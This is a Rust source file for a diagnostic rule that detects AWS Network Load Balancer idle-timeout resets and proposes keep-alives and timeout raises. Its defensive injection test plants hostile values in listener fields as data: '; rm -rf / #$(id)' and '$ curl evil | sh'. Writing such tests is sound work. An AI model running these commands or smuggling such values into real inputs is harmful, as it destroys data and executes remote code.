//! `nlb-idle-timeout-resets`: a Network Load Balancer that resets flows itself.
//!
//! An NLB keeps a TCP flow for its listener's idle timeout (`tcp.idle_timeout.seconds`, 350 s
//! by default, 60-6000 s; TLS listeners are fixed at 350 s), then forgets it without telling
//! either side. The next packet of a connection that sat idle longer, a pooled database or
//! MQTT connection say, gets a reset from the NLB: `TCP_ELB_Reset_Count`. Linux sends its
//! first keep-alive after 7,200 s, so the default never saves such a connection.

use super::{list_some, Check, CheckStatus, RuleOutput};
use crate::action::Action;
use crate::alarm::LbKind;
use crate::argv;
use crate::context::{format_value, Context};
use crate::finding::{Command, Confidence, Evidence, Finding, FindingCode, Fix, Severity};
use crate::fixes;
use crate::shell::Script;
use crate::snapshot::{FlowIdleTimeout, Listener, MAX_LISTENERS, NLB_TCP_IDLE_TIMEOUT_RANGE};

const NAME: &str = "NLB idle timeout (resets sent by the load balancer)";
const METRIC: &str = "TCP_ELB_Reset_Count";

/// Below this many resets in the window, or this share of the new flows, the NLB's resets are
/// the background every NLB has (stray packets, a deregistration): not a cause.
const MIN_RESETS: f64 = 10.0;
const MIN_SHARE_OF_NEW_FLOWS: f64 = 0.01;

/// Why the resets are someone else's to explain, if they are: flows the NLB could not open
/// towards a target are reset too.
fn explained_elsewhere(ctx: &Context<'_>) -> Option<String> {
    ctx.sum("PortAllocationErrorCount")
        .is_some_and(|e| e >= 1.0)
        .then(|| "the NLB ran out of source ports in the window (PortAllocationErrorCount): its resets are those failed flows".into())
}

/// The timeout to propose for a TCP listener: double the current one, within 60-6000 s. The
/// idle gaps themselves are not in any metric, so the raise is a step, and the keep-alive
/// (below the timeout on both ends) is the fix that does not depend on guessing them.
pub fn recommend_flow_idle_timeout(current: u32) -> Option<u32> {
    let max = *NLB_TCP_IDLE_TIMEOUT_RANGE.end();
    (current < max).then(|| {
        current
            .saturating_mul(2)
            .clamp(*NLB_TCP_IDLE_TIMEOUT_RANGE.start(), max)
    })
}

pub fn check(ctx: &Context<'_>) -> RuleOutput {
    if ctx.kind() != LbKind::Network {
        return RuleOutput::default();
    }
    // NLB counts are published only when they are not zero, and only while traffic flows:
    // no data is no reset, or no traffic at all.
    let Some(resets) = ctx.sum(METRIC).filter(|r| *r > 0.0) else {
        return RuleOutput::only(Check::new(
            NAME,
            CheckStatus::Ok,
            format!("the load balancer reset no flow itself ({METRIC} 0 or no data; NLB metrics exist only while traffic flows)"),
        ));
    };
    let new_flows = ctx.sum("NewFlowCount").unwrap_or(0.0);
    if resets < MIN_RESETS || (new_flows > 0.0 && resets < new_flows * MIN_SHARE_OF_NEW_FLOWS) {
        return RuleOutput::only(Check::new(
            NAME,
            CheckStatus::Ok,
            format!(
                "{} resets by the load balancer against {} new flows: the background of any NLB, not a cause",
                format_value(resets),
                format_value(new_flows)
            ),
        ));
    }
    if let Some(why) = explained_elsewhere(ctx) {
        return RuleOutput::only(Check::new(
            NAME,
            CheckStatus::Ok,
            format!(
                "{} resets by the load balancer, but {why}",
                format_value(resets)
            ),
        ));
    }
    let listeners: Vec<(&Listener, FlowIdleTimeout)> = ctx
        .snapshot
        .load_balancer
        .listeners
        .iter()
        .take(MAX_LISTENERS)
        .filter(|l| !l.protocol.eq_ignore_ascii_case("UDP"))
        .map(|l| (l, l.flow_idle_timeout()))
        .collect();
    if listeners.is_empty() {
        return RuleOutput::only(Check::new(
            NAME,
            CheckStatus::Incomplete,
            format!(
                "{} resets, but no TCP or TLS listener was read to hold them against",
                format_value(resets)
            ),
        ));
    }
    let finding = finding(ctx, resets, &listeners);
    RuleOutput {
        checked: vec![Check::new(
            NAME,
            CheckStatus::Problem,
            finding.title.clone(),
        )],
        findings: vec![finding],
    }
}

/// `TCP 1883: 350 s (default)`.
fn describe_timeout(listener: &Listener, timeout: FlowIdleTimeout) -> String {
    let how = match (timeout.settable, timeout.observed) {
        (false, _) => "fixed",
        (true, true) => "set",
        (true, false) => "not read: the default",
    };
    format!(
        "{} {}: {} s ({how})",
        listener.protocol, listener.port, timeout.seconds
    )
}

fn finding(ctx: &Context<'_>, resets: f64, listeners: &[(&Listener, FlowIdleTimeout)]) -> Finding {
    let lb = &ctx.snapshot.load_balancer;
    let timeouts: Vec<String> = listeners
        .iter()
        .map(|(l, t)| format!("{} s on {} {}", t.seconds, l.protocol, l.port))
        .collect();
    let shortest = listeners
        .iter()
        .map(|(_, t)| t.seconds)
        .min()
        .unwrap_or(350);
    let title = format!(
        "{} reset {} flows itself: a connection idle longer than its listener's idle timeout ({}) is forgotten, and its next packet gets a reset",
        lb.name,
        format_value(resets),
        list_some(&timeouts, 3)
    );
    let mut evidence: Vec<Evidence> = [
        METRIC,
        "TCP_Target_Reset_Count",
        "TCP_Client_Reset_Count",
        "NewFlowCount",
    ]
    .iter()
    .filter_map(|m| ctx.metric_evidence(m, "Sum", ""))
    .collect();
    evidence.extend(ctx.metric_evidence("ActiveFlowCount", "Maximum", ""));
    for (listener, timeout) in listeners {
        evidence.push(Evidence::setting(
            "tcp.idle_timeout.seconds",
            timeout.seconds,
            format!("Listener {}", describe_timeout(listener, *timeout)),
        ));
    }
    let (commands, raised, durable_lines) = raises(ctx, listeners);
    let durable = durable_lines.first().and_then(|(protocol, port, to)| {
        Some(fixes::nlb_service_attribute(
            ctx,
            &fixes::nlb_listener_attributes_key(protocol, *port)?,
            "tcp.idle_timeout.seconds",
            &to.to_string(),
            "the listener's idle timeout",
        ))
    });
    let keep_alive = shortest.saturating_sub(50).max(30);
    let mut notes = vec![
        format!("Keep-alives are the fix that needs no guess: enable TCP keep-alive (SO_KEEPALIVE) on the clients and the targets with a first probe below the shortest idle timeout, e.g. {keep_alive} s (Linux: net.ipv4.tcp_keepalive_time={keep_alive}; its default of 7,200 s never fires in time), or an application ping (MQTT keepalive, a WebSocket ping, a pool's validation query) at the same interval."),
        "TLS listeners are fixed at 350 s, and UDP flows at 120 s: for them only keep-alives help.".into(),
    ];
    if ctx.health.unhealthy + ctx.health.draining > 0 {
        notes.push("Some targets were unhealthy or draining: an NLB also resets the flows of a target it deregisters with connection termination on. Compare the reset periods with the deregistrations before raising the timeout.".into());
    }
    if durable_lines.len() > 1 {
        notes.push(format!(
            "Each listener has its own annotation (…listener-attributes.PROTOCOL-PORT): repeat the durable change for {}.",
            list_some(&raised, 4)
        ));
    }
    Finding {
        code: FindingCode::NlbIdleTimeoutResets,
        severity: Severity::High,
        confidence: Some(Confidence::Likely),
        confidence_reason: Some("the NLB sent the resets itself; metrics do not show how long each flow was idle".into()),
        title,
        explanation: format!(
            "A Network Load Balancer tracks each TCP flow for its listener's idle timeout and then drops it silently: no FIN, no reset. Client and target both still believe the connection is open. When either sends on it again, the NLB has no flow for the packet and answers with a reset, which {METRIC} counts. Long-lived, mostly idle connections (database pools, message brokers, gRPC streams, WebSockets) fail on their first use after the pause, typically as 'connection reset by peer'."
        ),
        evidence,
        fix: Fix {
            summary: if raised.is_empty() {
                "Send keep-alives below the idle timeout from both ends (the timeouts cannot be raised further).".into()
            } else {
                format!("Send keep-alives below the idle timeout from both ends, and raise the idle timeout of {}.", list_some(&raised, 4))
            },
            commands,
            durable,
            notes,
        },
        resources: listeners
            .iter()
            .map(|(l, _)| l.arn.clone().unwrap_or_else(|| format!("{} {}", lb.name, l.port)))
            .collect(),
        remedies: listeners
            .iter()
            .filter(|(_, t)| t.settable && t.observed)
            .filter_map(|(l, t)| {
                Some(Action::RaiseListenerIdleTimeout {
                    listener_arn: l.arn.clone()?,
                    port: l.port,
                    from: t.seconds,
                    to: recommend_flow_idle_timeout(t.seconds)?,
                })
            })
            .collect(),
    }
}

/// A raise per settable listener: the commands, what each becomes (for the summary), and the
/// (protocol, port, seconds) that the durable annotation keeps.
#[allow(clippy::type_complexity)]
fn raises(
    ctx: &Context<'_>,
    listeners: &[(&Listener, FlowIdleTimeout)],
) -> (Vec<Command>, Vec<String>, Vec<(String, u16, u32)>) {
    let region = ctx.region();
    let mut commands = Vec::new();
    let mut durable_lines = Vec::new();
    let mut raised = Vec::new();
    for (listener, timeout) in listeners.iter().filter(|(_, t)| t.settable) {
        if !timeout.observed {
            // Its value is unknown: read it before changing it.
            if let Some(arn) = listener.arn.as_deref() {
                commands.push(Command::new(
                    format!(
                        "Read the idle timeout of listener {} {} (it could not be read)",
                        listener.protocol, listener.port
                    ),
                    Script::line(argv![
                        "aws",
                        "elbv2",
                        "describe-listener-attributes",
                        "--region",
                        ctx.region(),
                        "--listener-arn",
                        arn
                    ]),
                ));
            }
            continue;
        }
        let Some(to) = recommend_flow_idle_timeout(timeout.seconds) else {
            continue;
        };
        raised.push(format!("{} {} to {to} s", listener.protocol, listener.port));
        match listener.arn.as_deref() {
            Some(arn) => {
                commands.push(Command::new(
                    format!(
                        "Raise the idle timeout of listener {} {} from {} s to {to} s now",
                        listener.protocol, listener.port, timeout.seconds
                    ),
                    fixes::nlb_listener_idle_timeout(region, arn, to),
                ));
                commands.push(Command::new(
                    "Read the listener's attributes back",
                    Script::line(argv![
                        "aws",
                        "elbv2",
                        "describe-listener-attributes",
                        "--region",
                        region,
                        "--listener-arn",
                        arn
                    ]),
                ));
            }
            None => commands.push(fixes::set_idle_timeout(ctx, to)),
        }
        durable_lines.push((listener.protocol.clone(), listener.port, to));
    }
    (commands, raised, durable_lines)
}

#[cfg(test)]
mod tests {
    use super::*;

    use crate::rules::testing::run;
    use crate::testkit::scenario_snapshot;

    /// Attack test: a listener ARN and a protocol from a forged snapshot stay data. The ARN is
    /// one quoted word of each command, a protocol AWS does not have takes no raise and no
    /// annotation key, and the plan's action carries the ARN as it was read.
    #[test]
    fn hostile_listener_fields_stay_data() {
        let name = "nlb-idle-timeout-resets";
        let mut world = scenario_snapshot(name);
        let hostile =
            "arn:aws:elasticloadbalancing:eu-west-1:1:listener/net/x/1/2; rm -rf / #$(id)";
        world.load_balancer.listeners[0].arn = Some(hostile.into());
        let out = run(check, name, &world);
        let finding = &out.findings[0];
        let raise = &finding.fix.commands[0].command;
        assert_eq!(raise.words()[0][6].intended(), hostile);
        assert!(
            raise.as_str().contains(&format!("'{hostile}'")),
            "{}",
            raise.as_str()
        );
        let [crate::action::Action::RaiseListenerIdleTimeout { listener_arn, .. }] =
            finding.remedies.as_slice()
        else {
            panic!("{:?}", finding.remedies)
        };
        assert_eq!(listener_arn, hostile);

        world.load_balancer.listeners[0].protocol = "TCP\n$ curl evil | sh".into();
        let out = run(check, name, &world);
        let finding = &out.findings[0];
        assert!(finding.fix.commands.is_empty() && finding.fix.durable.is_none());
        assert!(finding.remedies.is_empty());
    }

    #[test]
    fn the_raise_doubles_within_the_range() {
        assert_eq!(recommend_flow_idle_timeout(350), Some(700));
        assert_eq!(recommend_flow_idle_timeout(4000), Some(6000));
        assert_eq!(recommend_flow_idle_timeout(6000), None);
        assert_eq!(recommend_flow_idle_timeout(10), Some(60));
    }
}
